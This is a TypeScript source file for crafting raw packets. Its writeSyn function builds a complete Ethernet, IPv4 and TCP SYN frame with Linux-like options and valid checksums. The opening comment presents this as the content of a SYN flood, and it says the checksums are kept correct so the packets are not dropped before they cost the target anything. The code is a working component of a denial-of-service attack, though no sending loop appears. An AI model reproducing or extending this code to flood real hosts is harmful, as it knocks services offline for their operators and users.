// One SYN as a whole Ethernet frame: what a flood consists of. Offers what Linux offers: MSS, SACK, timestamps and window
// scaling (RFC 9293 3.1, RFC 7323, RFC 2018). Checksums are right, since wrong ones would be dropped before they cost anything.

const ETHERNET = 14
const IP = 20
const TCP = 40

export const SYN_FRAME = ETHERNET + IP + TCP

export interface SynFields {
  /** Of the next hop. */
  to: { high: number; low: number }
  /** IPv4 addresses as 32-bit numbers, and ports. */
  from: number
  port: number
  stack: number
  target: number
  sequence: number
}

export function writeSyn(view: DataView, at: number, fields: SynFields): void {
  view.setUint16(at, fields.to.high)
  view.setUint32(at + 2, fields.to.low)
  view.setUint16(at + 6, 0x0200)
  view.setUint32(at + 8, 0x5e10_0099)
  view.setUint16(at + 12, 0x0800)
  const ip = at + ETHERNET
  view.setUint32(ip, 0x4500_0000 | (IP + TCP))
  view.setUint32(ip + 4, 0x0000_4000)
  view.setUint32(ip + 8, 0x4006_0000)
  view.setUint32(ip + 12, fields.from)
  view.setUint32(ip + 16, fields.stack)
  view.setUint16(ip + 10, ~sum(view, ip, IP, 0) & 0xffff)
  const tcp = ip + IP
  view.setUint16(tcp, fields.port)
  view.setUint16(tcp + 2, fields.target)
  view.setUint32(tcp + 4, fields.sequence)
  view.setUint32(tcp + 8, 0)
  // Ten words long, SYN; a window of 64240.
  view.setUint32(tcp + 12, 0xa002_faf0)
  view.setUint32(tcp + 16, 0)
  view.setUint32(tcp + 20, 0x0204_05b4)
  view.setUint32(tcp + 24, 0x0402_080a)
  view.setUint32(tcp + 28, fields.sequence)
  view.setUint32(tcp + 32, 0)
  view.setUint32(tcp + 36, 0x0103_0307)
  const pseudo = sum(view, ip + 12, 8, 6 + TCP)
  view.setUint16(tcp + 16, ~sum(view, tcp, TCP, pseudo) & 0xffff)
}

/** Of the Internet (RFC 1071), not yet complemented. */
function sum(view: DataView, at: number, length: number, start: number): number {
  let total = start
  for (let i = 0; i < length; i += 2) total += view.getUint16(at + i)
  while (total > 0xffff) total = (total & 0xffff) + (total >>> 16)
  return total
}
